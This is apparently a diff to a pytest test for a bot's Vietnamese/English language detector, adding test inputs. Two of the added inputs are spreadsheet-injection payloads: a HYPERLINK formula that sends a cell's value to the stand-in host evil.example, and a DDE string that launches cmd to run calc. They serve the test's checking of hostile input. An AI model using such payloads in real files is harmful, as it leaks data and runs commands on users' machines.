@@ -17,6 +17,10 @@ from bot.language import detect_language
         ("建议修理通往小学的道路，因为雨季时非常泥泞难行", None),  # no spaces: not three words
         ("Ngắn quá", None),  # too short to tell
         ("12345 67890 12345 67890 !!!", None),
+        ('=HYPERLINK("http://evil.example/?"&A1,"Xem")', None),  # a formula, not English
+        ("@SUM(1+1)*cmd|' /C calc'!A0 Trường THPT", "vi"),
+        ("Je voudrais proposer une nouvelle route pour le village", None),  # French: neither
+        ("Xin cảm ơn các thầy cô đã góp ý", "vi"),
     ],
 )
 def test_a_text_is_taken_for_vietnamese_or_english_only_when_it_can_tell(text: str, found: str | None) -> None:
